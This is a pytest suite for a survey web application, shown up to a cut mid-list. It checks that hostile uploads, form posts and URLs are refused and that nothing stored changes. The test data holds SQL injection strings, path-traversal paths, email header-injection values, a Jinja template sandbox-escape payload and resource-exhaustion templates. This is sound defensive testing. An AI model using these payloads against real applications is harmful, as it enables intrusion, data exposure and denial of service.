"""Bad input, all together: a catalogue of hostile requests thrown at the running app.

Each case names the input, the answer a person would see (status and a plain message
naming the problem) and proves that nothing stored changed: every row of every table is
read before and after and compared (an audit log, which records the refusal, excepted).
Where the input is legitimate text that merely looks dangerous (script, formulas), the
case proves instead that it is stored as typed and shown or exported inert.

The cases run as a signed-in administrator against two programmes, A and B
(tests/hostile_helpers.py), so a URL of A can carry B's ids.
"""

import base64
import csv
import html
import io
import re
from dataclasses import dataclass, field
from urllib.parse import urlencode

import pytest
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from surveyapp.models import Message, Participant, Programme, Response, Wave
from surveyapp.reminders import sending
from tests.conftest import NOW
from tests.hostile_helpers import (
    SCRIPT,
    Unchanged,
    add_staff,
    build_world,
    cohort_csv,
    csrf_token,
    shows_script_as_text,
    sign_in_with_token,
)

#: A valid first page of the session evaluation.
PAGE_1 = {
    "page_id": "about_the_session",
    "session_type": "1",
    "session_role": "1",
    "session_number": "3",
}
PAGE_1_URL = "/r/page/about_the_session"
#: A valid second page, but for the answers a case changes.
PAGE_2 = {
    "page_id": "your_views",
    **{
        row: "4"
        for row in (
            "s_useful",
            "s_real_issues",
            "s_time_to_reflect",
            "s_theory_into_practice",
            "s_will_use",
            "s_felt_safe",
            "s_well_facilitated",
            "s_enough_time",
        )
    },
    "session_overall": "4",
}
PAGE_2_URL = "/r/page/your_views"
TOO_LARGE = "That file is too large"
CSRF_REFUSED = "Your session has expired or the form is out of date"
BAD_REQUEST = "Something was wrong with that request"
NOT_FOUND = "Page not found"
LINK_NOT_ACTIVE = "This link is not active"


@dataclass(frozen=True)
class Case:
    """One hostile request: where it goes, what it carries and the answer expected.

    ``url`` and string values of ``data`` are formatted with the world's ids
    ({wave_a}, {step_b}, …). ``who`` is "admin" (signed in), "participant" (on the
    link of a person of wave A who has answered the first page), "done" (on the link of
    a person who has sent their answers) or "nobody".
    """

    method: str
    url: str
    status: int
    says: tuple[str, ...] = ()
    who: str = "admin"
    data: dict = field(default_factory=dict)
    upload: bytes | None = None
    body: bytes | None = None
    content_type: str | None = None
    #: The end of the address a redirect must lead to.
    goes_to: str | None = None


def _format(value, ids):
    """Put the world's ids in for {wave_a} and the like; leave template braces alone."""
    if not isinstance(value, str):
        return value
    return re.sub(r"\{(\w+)\}", lambda m: str(ids.get(m.group(1), m.group(0))), value)


def send(client, case: Case, ids: dict):
    url = _format(case.url, ids)
    if case.body is not None:
        return client.open(url, method=case.method, data=case.body, content_type=case.content_type)
    data = {key: _format(value, ids) for key, value in case.data.items()}
    if case.upload is not None:
        data["file"] = FileStorage(io.BytesIO(case.upload), "cohort.csv", content_type="text/csv")
        # Encoded here into bytes: a body the test client spools to a temporary file is never
        # closed when the app refuses to read it.
        boundary, body = encode_multipart(data)
        return client.open(
            url,
            method=case.method,
            data=body,
            content_type=f"multipart/form-data; boundary={boundary}",
        )
    if case.method == "GET":
        return client.get(url, query_string=data or None)
    return client.open(url, method=case.method, data=data)


@pytest.fixture
def world(app, session):
    return build_world(app, session)


def _as(case_who, client, auth, world):
    if case_who == "admin":
        auth.login()
    elif case_who == "participant":
        assert client.get(f"/r/{world.token_a}").status_code == 303
        client.get("/r/")
        assert client.post(PAGE_1_URL, data=PAGE_1).status_code == 303
    elif case_who == "done":
        assert client.get(f"/r/{world.token_done}").status_code == 303
        client.get("/r/complete")


def _main_text(page: str) -> str:
    """The words of the page's main part, for a failure message a person can read."""
    main = re.search(r"<main.*?</main>", page, re.S)
    words = re.sub(r"<[^>]+>", " ", main.group(0) if main else page)
    return " ".join(html.unescape(words).split())[:1500]


def _check(response, case: Case):
    assert response.status_code == case.status, _main_text(response.text)
    for words in case.says:
        assert words in response.text, f"{words!r} not in: {_main_text(response.text)}"
    if case.goes_to is not None:
        assert response.location.endswith(case.goes_to), response.location


# -- 1. Cohort files -----------------------------------------------------------------------

UPLOAD = "/admin/programmes/{programme_a}/cohort"
IMPORT = "/admin/programmes/{programme_a}/cohort/import"
NOT_TEXT = "The file could not be read as text"


def _upload(content: bytes, status: int, *says: str) -> Case:
    return Case("POST", UPLOAD, status, says, upload=content)


def _row(id_number="A0001", name="Person A1", email="a1@example.org", team="North"):
    return cohort_csv((id_number, name, email, team))


COHORT_FILES = [
    pytest.param(
        _upload(_row(id_number="\u0410" + "0001"), 422, "The ID number", "U+0410"),
        id="cohort-id-with-cyrillic-A-lookalike-of-an-existing-person",
    ),
    pytest.param(
        _upload(_row(id_number="\u0391" + "0001"), 422, "The ID number", "U+0391"),
        id="cohort-id-with-greek-Alpha-lookalike",
    ),
    pytest.param(
        _upload(_row(id_number="A00\u200b01"), 422, "The ID number", "U+200B"),
        id="cohort-id-with-zero-width-space",
    ),
    pytest.param(
        _upload(_row(id_number="A0001\u200d"), 422, "The ID number", "U+200D"),
        id="cohort-id-with-zero-width-joiner-at-the-end",
    ),
    pytest.param(
        _upload(_row(id_number="\u202e1000A"), 422, "The ID number", "U+202E"),
        id="cohort-id-with-right-to-left-override",
    ),
    pytest.param(
        _upload(_row(id_number="\uff21\uff10\uff10\uff10\uff11"), 422, "The ID number", "U+FF21"),
        id="cohort-id-in-fullwidth-letters-and-digits",
    ),
    pytest.param(
        _upload(_row(name="Person \u202eA1"), 422, "The name", "U+202E"),
        id="cohort-name-with-right-to-left-override",
    ),
    pytest.param(
        _upload(_row(team="North\u200b"), 422, "The team", "U+200B"),
        id="cohort-team-with-zero-width-space-lookalike-of-an-existing-team",
    ),
    pytest.param(
        _upload(b"PK\x03\x04" + b"\x00" * 200, 422, "This is an Excel workbook, not a CSV file"),
        id="cohort-excel-workbook-instead-of-csv",
    ),
    pytest.param(
        _upload(_row().decode().encode("utf-16"), 422, "The file is saved as UTF-16"),
        id="cohort-utf16-file",
    ),
    pytest.param(
        _upload(
            b"id_number,name,email\r\nA0009,Bad \x81\x8d bytes,x@example.org\r\n", 422, NOT_TEXT
        ),
        id="cohort-invalid-utf8-and-not-windows-text",
    ),
    pytest.param(
        _upload(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, 422, NOT_TEXT),
        id="cohort-binary-image",
    ),
    pytest.param(_upload(b"", 422, "The file is empty"), id="cohort-empty-file"),
    pytest.param(
        _upload(b"id_number,name,email\r\n", 422, "no rows of participants"),
        id="cohort-headings-only",
    ),
    pytest.param(
        _upload(cohort_csv(("A0009", "x" * 200_000, "x@example.org")), 422, "longer than"),
        id="cohort-200k-character-cell",
    ),
    pytest.param(
        _upload(
            b'id_number,name,email\r\nA0009,"Never closed,x@example.org\r\nA0010,Y,y@example.org\r\n',
            422,
            "is never closed",
        ),
        id="cohort-unclosed-quotation-mark",
    ),
    pytest.param(
        _upload(
            b"name,email\r\nX,x@example.org\r\n", 422, "There is no \u201cid_number\u201d column"
        ),
        id="cohort-without-an-id-column",
    ),
    pytest.param(
        _upload(
            _row(email="a1@example.org\r\nBcc: everyone@example.org"), 422, "not a valid email"
        ),
        id="cohort-email-with-a-header-injection",
    ),
    pytest.param(
        _upload(_row(name="N" * 201), 422, "longer than 200 characters"),
        id="cohort-name-over-the-column-length",
    ),
    pytest.param(_upload(b"A" * (3 * 1024 * 1024), 413, TOO_LARGE), id="cohort-3-MB-upload"),
    pytest.param(
        Case("POST", UPLOAD, 422, ("Choose a CSV file to upload",), data={"file": "A0001,x"}),
        id="cohort-file-sent-as-a-form-field-not-an-upload",
    ),
    pytest.param(
        Case(
            "POST",
            UPLOAD,
            422,
            ("Choose a CSV file to upload",),
            body=b'{"file": "id_number,name,email"}',
            content_type="application/json",
        ),
        id="cohort-upload-as-json",
    ),
    pytest.param(
        Case(
            "POST",
            UPLOAD,
            422,
            ("Choose a CSV file to upload",),
            body=b"--x\r\nContent-Disposition: form-data; name=file; filename=a.csv\r\n\r\nA",
            content_type="multipart/form-data",
        ),
        id="cohort-multipart-without-a-boundary",
    ),
    pytest.param(
        Case("POST", IMPORT, 400, (BAD_REQUEST,), data={"content": "not base64 at all!"}),
        id="cohort-confirmation-forged-not-base64",
    ),
    pytest.param(
        Case("POST", IMPORT, 400, (BAD_REQUEST,), data={}),
        id="cohort-confirmation-without-content",
    ),
    pytest.param(
        Case(
            "POST",
            IMPORT,
            303,
            data={"content": base64.b64encode(_row(id_number="\u0410" + "0001")).decode()},
            goes_to="/cohort",
        ),
        id="cohort-confirmation-forged-with-a-lookalike-id-never-previewed",
    ),
]


@pytest.mark.parametrize("case", COHORT_FILES)
def test_cohort_file_is_refused_with_its_reason_and_nothing_is_stored(
    app, client, auth, world, case
):
    _as(case.who, client, auth, world)

    with Unchanged(app):
        response = send(client, case, world.ids())

    _check(response, case)


def test_a_lookalike_id_in_a_file_with_good_rows_is_left_out_not_added(
    app, client, auth, session, world
):
    """The good row is imported; the Cyrillic twin of A0001 never becomes a second person."""
    auth.login()
    content = cohort_csv(
        ("\u0410" + "0001", "Person A1", "a1@example.org", "North"),
        ("A0099", "New Person", "new@example.org", "North"),
    )

    preview = client.post(
        f"/admin/programmes/{world.programme_a}/cohort",
        data={"file": (io.BytesIO(content), "cohort.csv")},
    )
    imported = client.post(
        f"/admin/programmes/{world.programme_a}/cohort/import",
        data={"content": base64.b64encode(content).decode()},
        follow_redirects=True,
    )

    assert preview.status_code == 200
    assert "U+0410" in preview.text and "CYRILLIC CAPITAL LETTER A" in preview.text
    assert "1 added" in imported.text and "1 row(s) with problems were left out" in imported.text
    numbers = session.scalars(
        select(Participant.id_number).where(Participant.programme_id == world.programme_a)
    ).all()
    assert sorted(numbers) == ["A0001", "A0002", "A0003", "A0004", "A0005", "A0006", "A0099"]


# -- 2. Participant posts ------------------------------------------------------------------


def _page_2(**changes) -> dict:
    return {**PAGE_2, **changes}


PARTICIPANT_POSTS = [
    pytest.param(
        Case(
            "POST",
            PAGE_1_URL,
            422,
            ("Select one of the answers shown",),
            "participant",
            {**PAGE_1, "session_type": "99"},
        ),
        id="answer-code-not-offered",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_1_URL,
            422,
            ("Select one of the answers shown",),
            "participant",
            {**PAGE_1, "session_type": "1' OR '1'='1"},
        ),
        id="answer-code-sql-injection",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_1_URL,
            422,
            ("200 characters or fewer",),
            "participant",
            {**PAGE_1, "session_type": "other", "session_type_other": "x" * 201},
        ),
        id="other-text-over-200-characters",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_1_URL,
            422,
            ("Enter a",),
            "participant",
            {**PAGE_1, "session_number": "1e309"},
        ),
        id="number-overflowing-to-infinity",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_1_URL,
            422,
            ("Enter a",),
            "participant",
            {**PAGE_1, "session_number": "NaN"},
        ),
        id="number-not-a-number",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_1_URL,
            422,
            ("Enter a",),
            "participant",
            {**PAGE_1, "session_number": "9" * 5000},
        ),
        id="number-with-5000-digits",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_1_URL,
            422,
            ("between 1 and 50",),
            "participant",
            {**PAGE_1, "session_number": "-0"},
        ),
        id="number-negative-zero-below-minimum",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_2_URL,
            422,
            ("2,000 characters or fewer",),
            "participant",
            _page_2(action_agreed="x" * 2001),
        ),
        id="long-text-over-its-maximum",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_2_URL,
            422,
            ("Select one of the answers shown",),
            "participant",
            _page_2(s_useful="6"),
        ),
        id="matrix-row-code-not-offered",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_2_URL,
            303,
            (),
            "participant",
            {k: v for k, v in PAGE_2.items() if k != "page_id"},
            goes_to=PAGE_2_URL,
        ),
        id="page-without-page-id-is-sent-back-to-the-page",
    ),
    pytest.param(
        Case("POST", PAGE_1_URL, 303, (), "participant", _page_2(), goes_to=PAGE_2_URL),
        id="page-id-forged-to-another-page",
    ),
    pytest.param(
        Case(
            "POST",
            "/r/page/check_answers",
            303,
            (),
            "participant",
            {"page_id": "check_answers"},
            goes_to=PAGE_2_URL,
        ),
        id="post-to-a-page-that-does-not-exist",
    ),
    pytest.param(
        Case(
            "POST",
            "/r/page/..%2F..%2Fadmin",
            404,
            (NOT_FOUND,),
            "participant",
            {"page_id": "../../admin"},
        ),
        id="post-to-a-path-traversal-page-id",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_2_URL,
            303,
            (),
            "participant",
            body=b'{"page_id": "your_views", "s_useful": "4"}',
            content_type="application/json",
            goes_to=PAGE_2_URL,
        ),
        id="page-posted-as-json",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_2_URL,
            303,
            (),
            "participant",
            body=b"page_id=your_views",
            content_type="text/plain",
            goes_to=PAGE_2_URL,
        ),
        id="page-posted-as-text-plain",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_2_URL,
            413,
            (TOO_LARGE,),
            "participant",
            _page_2(action_agreed="x" * (3 * 1024 * 1024)),
        ),
        id="page-body-of-3-MB",
    ),
    pytest.param(
        Case(
            "POST",
            "/r/page/your_views/draft",
            204,
            (),
            "participant",
            {"session_type": "2", "s_useful": "1"},
        ),
        id="draft-save-forging-closed-answers",
    ),
    pytest.param(
        Case(
            "POST",
            "/r/page/about_the_session/draft",
            204,
            (),
            "participant",
            {"action_agreed": "typed on a page it is not on"},
        ),
        id="draft-save-of-an-item-of-another-page",
    ),
    pytest.param(
        Case("POST", "/r/submit", 303, (), "participant", goes_to=PAGE_2_URL),
        id="submit-before-the-last-page",
    ),
    pytest.param(
        Case("POST", "/r/submit", 303, (), "done", goes_to="/r/complete"),
        id="replay-submit-of-a-sent-questionnaire",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_1_URL,
            303,
            (),
            "done",
            {**PAGE_1, "session_type": "2"},
            goes_to="/r/complete",
        ),
        id="replay-a-page-after-sending",
    ),
    pytest.param(
        Case(
            "POST",
            "/r/page/your_views/draft",
            204,
            (),
            "done",
            {"action_agreed": "changed after sending"},
        ),
        id="replay-a-draft-after-sending",
    ),
    pytest.param(
        Case("GET", "/r/" + "A" * 10_000, 404, (LINK_NOT_ACTIVE,), "nobody"),
        id="link-with-a-10000-character-token",
    ),
    pytest.param(
        Case("GET", "/r/' OR 1=1 --", 404, (LINK_NOT_ACTIVE,), "nobody"),
        id="link-with-sql-injection",
    ),
    pytest.param(
        Case("POST", PAGE_1_URL, 404, (LINK_NOT_ACTIVE,), "nobody", PAGE_1),
        id="page-post-without-a-link",
    ),
    pytest.param(
        Case("POST", "/r/{token_b}x/no-reminders", 404, (LINK_NOT_ACTIVE,), "nobody"),
        id="opt-out-with-a-forged-token",
    ),
    pytest.param(
        Case(
            "POST",
            PAGE_2_URL,
            400,
            (BAD_REQUEST,),
            "participant",
            body=urlencode(PAGE_2).encode() + b"&action_agreed=Good%FF%FE%C0%AF",
            content_type="application/x-www-form-urlencoded",
        ),
        id="text-answer-with-invalid-utf8",
    ),
    pytest.param(
        Case("GET", "/r/%FF%FE%00", 404, (LINK_NOT_ACTIVE,), "nobody"),
        id="link-with-invalid-utf8-and-nul",
    ),
]


@pytest.mark.parametrize("case", PARTICIPANT_POSTS)
def test_participant_post_is_refused_and_nothing_is_stored(app, client, auth, world, case):
    _as(case.who, client, auth, world)

    with Unchanged(app):
        response = send(client, case, world.ids())

    _check(response, case)


def test_nul_and_control_characters_in_an_answer_are_dropped_not_an_error(
    app, client, auth, session, world
):
    _as("participant", client, auth, world)

    response = client.post(PAGE_2_URL, data=_page_2(action_agreed="Plan\x00 ahead\x1b[31m\x07"))

    assert response.status_code == 303
    from surveyapp.models import DraftAnswer

    stored = session.scalar(
        select(DraftAnswer.value).where(
            DraftAnswer.invitation_id == world.invitation_a,
            DraftAnswer.answer_id == "action_agreed",
        )
    )
    assert stored == "Plan ahead[31m"


def test_replaying_opt_out_keeps_the_first_time(app, client, session, world):
    from surveyapp.models import Invitation

    first = client.post(f"/r/{world.token_b}/no-reminders")
    with Unchanged(app):
        again = client.post(f"/r/{world.token_b}/no-reminders")

    assert first.status_code == again.status_code == 303
    assert session.get(Invitation, world.invitation_b).opted_out_at == NOW


# -- 3. Admin forms ------------------------------------------------------------------------

NEW_PROGRAMME = {"name": "Programme C", "run_by": "Us", "reporting_threshold": "5"}
NEW_WAVE = {
    "label": "Midterm",
    "version": "{version_a}",
    "opens_on-day": "2",
    "opens_on-month": "5",
    "opens_on-year": "2030",
    "opens_time": "09:00",
    "closes_on-day": "30",
    "closes_on-month": "5",
    "closes_on-year": "2030",
    "closes_time": "17:00",
    "target_rate": "60",
    "privacy": "identified",
}
STEP = {
    "label": "Third reminder",
    "when": "days",
    "days_after_opening": "10",
    "audience": "not_completed",
    "template": "{template_a}",
}
NEW_EMAIL = {
    "name": "extra",
    "subject": "Hello {{ first_name }}",
    "body": "Your link: {{ link }}\nNo reminders: {{ opt_out_link }}",
}
PERSON = {"name": "Person A1", "email": "a1@example.org", "team": "North"}


def _form(url, data, status, *says) -> Case:
    return Case("POST", url, status, says, data=data)


ADMIN_FORMS = [
    pytest.param(
        _form("/admin/programmes/new", {**NEW_PROGRAMME, "name": "N" * 201}, 422, "200 characters"),
        id="programme-name-over-200-characters",
    ),
    pytest.param(
        _form(
            "/admin/programmes/new",
            {**NEW_PROGRAMME, "name": "Programme A"},
            422,
            "There is already a programme with this name",
        ),
        id="replay-programme-creation-with-a-taken-name",
    ),
    pytest.param(
        _form(
            "/admin/programmes/new",
            {**NEW_PROGRAMME, "reporting_threshold": "2"},
            422,
            "The reporting threshold must be 3 or more",
        ),
        id="reporting-threshold-below-3",
    ),
    pytest.param(
        _form(
            "/admin/programmes/new",
            {**NEW_PROGRAMME, "reporting_threshold": "9" * 40},
            422,
            "The reporting threshold must be 3 or more",
        ),
        id="reporting-threshold-of-40-digits",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/edit",
            {**NEW_PROGRAMME, "name": "Programme B"},
            422,
            "There is already a programme with this name",
        ),
        id="programme-renamed-to-another-programmes-name",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/waves/new",
            {**NEW_WAVE, "closes_on-day": "1"},
            422,
            "The closing date must be after the opening date",
        ),
        id="wave-closing-before-it-opens",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/waves/new",
            {**NEW_WAVE, "opens_on-day": "45", "opens_on-month": "13"},
            422,
            "Opening date must be a real date",
        ),
        id="wave-impossible-date",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/waves/new",
            {**NEW_WAVE, "target_rate": "101"},
            422,
            "The target must be between 1 and 100",
        ),
        id="wave-target-over-100",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/waves/new",
            {**NEW_WAVE, "privacy": "public"},
            422,
            "Not a valid choice",
        ),
        id="wave-privacy-mode-forged",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/waves/new",
            {**NEW_WAVE, "version": "999999"},
            422,
            "Not a valid choice",
        ),
        id="wave-questionnaire-version-id-forged",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/waves/new",
            {**NEW_WAVE, "team": "Team of B"},
            422,
            "is not a valid choice",
        ),
        id="wave-audience-team-not-in-the-cohort",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/steps/new",
            {**STEP, "template": "{template_b}"},
            422,
            "Not a valid choice",
        ),
        id="step-using-another-waves-email",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/steps/new",
            {**STEP, "audience": "everyone"},
            422,
            "Not a valid choice",
        ),
        id="step-audience-forged-to-everyone-including-finished",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/steps/new",
            {**STEP, "days_after_opening": "366"},
            422,
            "Enter a number of days from 0 to 365",
        ),
        id="step-days-out-of-range",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/steps/new",
            {**STEP, "when": "date"},
            422,
            "Enter the sending date",
        ),
        id="step-by-date-without-a-date",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/new",
            {**NEW_EMAIL, "body": "{{ password }}"},
            422,
            "\u201cpassword\u201d is not a field",
        ),
        id="email-with-an-unknown-field",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/new",
            {**NEW_EMAIL, "body": "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
            422,
            "tries something that is not allowed",
        ),
        id="email-escaping-the-template-sandbox",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/new",
            {**NEW_EMAIL, "subject": "Hello\r\nBcc: everyone@example.org"},
            422,
            "The subject must be one line",
        ),
        id="email-subject-with-a-header-injection",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/new",
            {**NEW_EMAIL, "name": "../../etc"},
            422,
            "Use only lower case letters, numbers and underscores",
        ),
        id="email-name-with-a-path",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/new",
            {**NEW_EMAIL, "name": "reminder"},
            422,
            "This wave already has an email with this name",
        ),
        id="replay-email-creation-with-a-taken-name",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/participants/{person_a}",
            {**PERSON, "email": "a1@example.org\r\nBcc: everyone@example.org"},
            422,
            "Enter an email address in the correct format",
        ),
        id="participant-email-with-a-header-injection",
    ),
    pytest.param(
        Case(
            "GET",
            "/admin/waves/{wave_a}/non-respondents/sample",
            422,
            ("Choose between 1 and 10,000 people",),
            data={"size": "0", "seed": "1"},
        ),
        id="sample-of-zero-people",
    ),
    pytest.param(
        Case(
            "GET",
            "/admin/waves/{wave_a}/non-respondents/sample",
            422,
            ("The seed must be a whole number",),
            data={"size": "5", "seed": "9" * 30},
        ),
        id="sample-seed-of-30-digits",
    ),
    pytest.param(
        _form(
            "/admin/programmes/new",
            {**NEW_PROGRAMME, "name": "   "},
            422,
            "Enter the programme name",
        ),
        id="programme-name-only-spaces",
    ),
    pytest.param(
        _form(
            "/admin/programmes/new",
            {**NEW_PROGRAMME, "name": "Programme\x00C"},
            422,
            "Programme name has a hidden character (U+0000",
        ),
        id="programme-name-with-a-nul-byte",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/{template_a}",
            {"subject": "x", "body": "{% for i in range(10**9) %}{{ i }}{% endfor %}"},
            422,
            "tries something that is not allowed",
        ),
        id="email-looping-a-billion-times",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/{template_a}",
            {
                "subject": "x",
                "body": "{% for i in range(99) %}{% for j in range(99) %}{% for k in range(99) %}"
                "{{ k }}{% endfor %}{% endfor %}{% endfor %}",
            },
            422,
            "tries something that is not allowed",
        ),
        id="email-with-nested-loops-writing-a-book",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/participants/{person_a}",
            {**PERSON, "name": "   "},
            422,
            "Enter the full name",
        ),
        id="participant-name-only-spaces",
    ),
    pytest.param(
        _form(
            "/admin/programmes/{programme_a}/participants/{person_a}",
            {**PERSON, "name": "Person \u202eA1"},
            422,
            "U+202E",
        ),
        id="participant-name-with-right-to-left-override",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/{template_a}",
            {"subject": "x", "body": "{{ first_name|center(50000000) }}"},
            422,
            "tries something that is not allowed",
        ),
        id="email-padding-a-field-to-fifty-million",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/{template_a}",
            {"subject": "x", "body": "{{ '{:>2000000000}'.format(1) }}"},
            422,
            "tries something that is not allowed",
        ),
        id="email-formatting-a-two-billion-wide-string",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/{template_a}",
            {"subject": "x", "body": "{{ '%2000000000s' % 1 }}"},
            422,
            "tries something that is not allowed",
        ),
        id="email-percent-formatting-two-billion-wide",
    ),
    pytest.param(
        _form(
            "/admin/waves/{wave_a}/reminders/emails/{template_a}",
            {
                "subject": "x",
                "body": "{% for a in range(99) %}{% for b in range(99) %}{% for c in range(99) %}{% for d in range(99) %}{% for e in range(99) %}{% for f in range(99) %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
            },
            422,
            "tries something that is not allowed",
        ),
        id="email-with-six-nested-loops-and-no-output",
    ),
]


@pytest.fixture
def ids(world, session):
    return world.ids() | {"version_a": session.get(Wave, world.wave_a).questionnaire_version_id}


@pytest.mark.parametrize("case", ADMIN_FORMS)
def test_admin_form_refuses_with_a_message_beside_the_field_and_stores_nothing(
    app, client, auth, ids, case
):
    auth.login()

    with Unchanged(app):
        response = send(client, case, ids)

    _check(response, case)


# -- 4. Addresses: foreign, forged and malformed ids and parameters -------------------------

FOREIGN = [
    ("GET", "/admin/programmes/{programme_a}/participants/{person_b}", "participant-of-B-in-A"),
    ("POST", "/admin/programmes/{programme_a}/participants/{person_b}", "edit-participant-of-B"),
    (
        "POST",
        "/admin/programmes/{programme_a}/participants/{person_b}/withdraw",
        "withdraw-participant-of-B",
    ),
    ("POST", "/admin/waves/{wave_a}/invitations/{invitation_b}/reopen", "reopen-invitation-of-B"),
    ("GET", "/admin/waves/{wave_a}/reminders/steps/{step_b}", "step-of-B-in-A"),
    ("POST", "/admin/waves/{wave_a}/reminders/steps/{step_b}", "edit-step-of-B"),
    ("POST", "/admin/waves/{wave_a}/reminders/steps/{step_b}/delete", "delete-step-of-B"),
    ("POST", "/admin/waves/{wave_a}/reminders/steps/{step_b}/send", "send-step-of-B"),
    ("GET", "/admin/waves/{wave_a}/reminders/emails/{template_b}", "email-of-B-in-A"),
    ("POST", "/admin/waves/{wave_a}/reminders/emails/{template_b}", "edit-email-of-B"),
    ("POST", "/admin/waves/{wave_a}/reminders/emails/{template_b}/preview", "preview-email-of-B"),
    ("GET", "/admin/waves/{wave_a}/outbox/{message_b}", "message-of-B-in-A"),
    ("GET", "/admin/programmes/{programme_a}/change?first={wave_b}", "change-with-wave-of-B"),
    ("GET", "/admin/waves/999999/dashboard", "wave-that-does-not-exist"),
    ("GET", "/admin/programmes/999999/participants", "programme-that-does-not-exist"),
    ("GET", "/admin/waves/-1/dashboard", "negative-wave-id"),
    ("GET", "/admin/waves/1.5/dashboard", "fractional-wave-id"),
    ("GET", "/admin/questionnaires/..%2F..%2Fetc%2Fpasswd", "questionnaire-key-path-traversal"),
    ("GET", "/admin/questionnaires/session_evaluation/versions/99", "version-that-does-not-exist"),
    ("GET", "/admin/questionnaires/session_evaluation/preview/no_such_page", "preview-page-forged"),
    ("GET", "/admin/waves/{wave_a}/results/culture?team=Nobody", "culture-team-not-in-wave"),
    ("GET", "/admin/waves/99999999999999999999999/dashboard", "wave-id-beyond-64-bits"),
    (
        "POST",
        "/admin/waves/{wave_a}/invitations/99999999999999999999999/reopen",
        "invitation-id-beyond-64-bits",
    ),
    (
        "GET",
        "/admin/programmes/{programme_a}/change?first=99999999999999999999",
        "change-with-wave-id-beyond-64-bits",
    ),
]


@pytest.mark.parametrize(("method", "url"), [pytest.param(m, u, id=i) for m, u, i in FOREIGN])
def test_foreign_and_forged_ids_answer_404_and_change_nothing(
    app, client, auth, world, method, url
):
    auth.login()

    with Unchanged(app):
        response = client.open(url.format(**world.ids()), method=method, data={"subject": "x"})

    assert response.status_code == 404, response.text[:2000]
    assert NOT_FOUND in response.text


#: A programme manager or evaluator of programme A only, reaching for B's objects.
OUTSIDE_THEIR_PROGRAMMES = [
    ("programme_manager", "GET", "/admin/programmes/{programme_b}", {}),
    ("programme_manager", "GET", "/admin/waves/{wave_b}/dashboard", {}),
    (
        "programme_manager",
        "POST",
        "/admin/programmes/{programme_b}/cohort/import",
        {"content": base64.b64encode(cohort_csv(("B0099", "X", "x@example.org", "N"))).decode()},
    ),
    (
        "programme_manager",
        "POST",
        "/admin/programmes/{programme_b}/participants/{person_b}",
        PERSON,
    ),
    (
        "programme_manager",
        "POST",
        "/admin/programmes/{programme_b}/participants/{person_b}/withdraw",
        {},
    ),
    ("programme_manager", "POST", "/admin/waves/{wave_b}/invitations/{invitation_b}/reopen", {}),
    ("programme_manager", "POST", "/admin/waves/{wave_b}/reminders/steps/{step_b}/send", {}),
    (
        "programme_manager",
        "POST",
        "/admin/waves/{wave_b}/reminders/emails/{template_b}",
        {"subject": "Changed", "body": "Changed {{ link }} {{ opt_out_link }}"},
    ),
    ("programme_manager", "GET", "/admin/waves/{wave_b}/outbox/{message_b}", {}),
    ("programme_manager", "GET", "/admin/waves/{wave_b}/non-respondents.csv", {}),
    ("evaluator", "GET", "/admin/waves/{wave_b}/export?format=csv", {}),
    ("evaluator", "GET", "/admin/programmes/{programme_a}/change?first={wave_b}", {}),
]


@pytest.mark.parametrize(
    ("role", "method", "url", "data"),
    [
        pytest.param(role, method, url, data, id=f"{role}-of-A-{method}-{url}")
        for role, method, url, data in OUTSIDE_THEIR_PROGRAMMES
    ],
)
def test_another_programmes_objects_answer_404_to_a_member_of_one_programme(
    app, client, auth, session, world, role, method, url, data
):
    from surveyapp.models import User
    from surveyapp.staff import access

    add_staff(session, email="member@example.org", role=role)
    member = session.scalar(select(User).where(User.email == "member@example.org"))
    access.add_member(session, member, session.get(Programme, world.programme_a))
    session.commit()
    auth.login(email="member@example.org", role=role)

    with Unchanged(app):
        response = client.open(_format(url, world.ids()), method=method, data=data)

    assert response.status_code == 404, _main_text(response.text)
    assert NOT_FOUND in response.text


QUERIES = [
    pytest.param(
        "/admin/waves/{wave_a}/export?format=exe", 400, BAD_REQUEST, id="export-format-forged"
    ),
    pytest.param(
        "/admin/waves/{wave_a}/export?layout=..%2F..%2Fetc",
        400,
